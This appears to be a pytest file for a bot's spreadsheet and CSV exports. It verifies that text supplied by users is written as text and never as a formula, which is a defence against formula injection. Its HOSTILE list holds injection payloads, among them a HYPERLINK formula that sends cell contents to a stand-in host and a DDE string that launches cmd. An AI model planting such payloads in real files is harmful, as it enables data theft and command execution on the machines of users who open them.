"""Every string a person or a document supplied is written to spreadsheets as text, never as a formula: in
every workbook and CSV file the bot writes, found by reading the code, and checked on what each writes."""

from __future__ import annotations

import ast
import csv
import io
from datetime import UTC, date, datetime, time
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine

from bot.bootstrap import build_app
from bot.clock import FixedClock
from bot.config import load_settings
from bot.dialogue.members import invite_sheet
from bot.render import report_summary
from bot.services.events import EventDraft
from bot.services.org import Actor
from bot.services.reminders import from_key, occurrence_key
from bot.text.cells import csv_field, risky, xlsx_cell, xlsx_value
from bot.text.when import When

ROOT = Path(__file__).resolve().parent.parent
DATA = ROOT / "tests" / "data" / "content"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
# What writes a workbook or a CSV file: openpyxl's Workbook, the csv module's writer, a "text/csv" attachment.
WRITES = ("Workbook(", "csv.writer(", '"text/csv"')


def _writers() -> list[str]:
    found = []
    for package in ("bot", "scheduler"):
        for path in sorted((ROOT / package).rglob("*.py")):
            text = path.read_text(encoding="utf-8")
            if any(w in text for w in WRITES) and path.name != "cells.py":
                found.append(str(path.relative_to(ROOT)))
    return found


def _imports_cells(path: Path) -> bool:
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.ImportFrom) and node.module == "bot.text.cells":
            return True
    return False


def test_every_writer_found_in_the_code_goes_through_the_one_helper() -> None:
    writers = _writers()
    # The two known today; a new one is found by the same search and must use bot/text/cells.py too.
    assert {"bot/render/report_summary.py", "bot/dialogue/members.py"} <= set(writers)
    missing = [w for w in writers if not _imports_cells(ROOT / w)]
    assert not missing, "these write spreadsheets without bot/text/cells.py: " + ", ".join(missing)


@pytest.mark.parametrize("value", HOSTILE)
def test_the_helper_keeps_risky_strings_as_text(value: str) -> None:
    assert risky(value)
    assert csv_field(value) == "'" + value
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    cell = xlsx_cell(sheet, value)
    assert cell.data_type == "s" and cell.quotePrefix and cell.value == value
    plain = xlsx_value(sheet, value)  # the write-only row helper gives a cell for these too
    assert plain.data_type == "s" and plain.quotePrefix and plain.value == value


def test_the_row_helper_passes_only_what_openpyxl_keeps_as_it_is() -> None:
    from openpyxl import Workbook

    sheet = Workbook(write_only=True).create_sheet("x")
    for value in ("Nguyễn Văn An", "Chi bộ 1", 3, 0.5, None):
        assert xlsx_value(sheet, value) is value
    error = xlsx_value(sheet, "#N/A")  # openpyxl would store it as an error value
    assert error.data_type == "s" and error.value == "#N/A"


def test_ordinary_values_are_written_as_they_are() -> None:
    assert csv_field("Nguyễn Văn An") == "Nguyễn Văn An" and csv_field(None) == "" and csv_field(12) == "12"
    from openpyxl import Workbook

    sheet = Workbook().active
    assert xlsx_cell(sheet, 3).data_type == "n" and not xlsx_cell(sheet, "Hội nghị").quotePrefix


def _no_formula(content: bytes) -> list[str]:
    """Every string cell of every sheet, after checking none is a formula."""
    book = load_workbook(io.BytesIO(content))
    strings = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    strings.append(cell.value)
                    if risky(cell.value):
                        assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate}"
    return strings


def test_every_writer_writes_hostile_titles_and_names_as_text(engine: Engine, tmp_path: Path) -> None:
    settings = load_settings(_env_file=None, content_dir=DATA)
    clock = FixedClock(datetime(2026, 4, 1, 1, 0, tzinfo=UTC))
    app = build_app(settings, clock=clock, engine=engine)
    system = Actor.system()
    committee = app.org.add_unit(system, "Đảng bộ xã", "committee").id
    cell = app.org.add_unit(system, HOSTILE[2], "cell", committee).id  # a unit's name is typed too
    app.org.redeem(app.org.create_invite(system, cell, "secretary").code, "telegram", "s", "Phạm Thị Hoa")
    app.org.redeem(app.org.create_invite(system, cell, "member").code, "telegram", "m", "Nguyễn Văn An")
    secretary = app.org.actor_for("telegram", "s")
    member = app.org.actor_for("telegram", "m")
    assert secretary is not None and member is not None
    conference = app.events.create(secretary, EventDraft("conference", HOSTILE[0], When(date(2026, 4, 13), time(8))))
    app.events.create(secretary, EventDraft("deadline", HOSTILE[3], When(date(2026, 4, 20)), topic="essay"))
    app.events.respond(member, conference.id, from_key(occurrence_key(conference.starts_at)), "absent", HOSTILE[1])
    clock._at = datetime(2026, 4, 25, 1, 0, tzinfo=UTC)  # both are past: in every sheet

    cell_book = _no_formula(report_summary.as_xlsx(app.figures.figures(system, cell), app.settings.zone))
    committee_book = _no_formula(report_summary.as_xlsx(app.figures.figures(system, committee), app.settings.zone))
    assert HOSTILE[0] in cell_book and HOSTILE[3] in cell_book and HOSTILE[2] in cell_book
    assert any(HOSTILE[1] in s for s in cell_book)  # inside "Nguyễn Văn An (+1+cmd…)": not at the start
    assert HOSTILE[2] in committee_book  # the cell's name in the rows by unit (the committee set no event)

    sheet = invite_sheet([(v, "ABCDEFGHJKMN", None) for v in HOSTILE] + [("Nguyễn Văn An", "23456789ABCD", "x")])
    rows = list(csv.reader(io.StringIO(sheet.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == ["Họ tên", "Mã mời", "Liên kết"]
    assert [r[0] for r in rows[1:-1]] == ["'" + v for v in HOSTILE]
    assert rows[-1] == ["Nguyễn Văn An", "23456789ABCD", "x"]
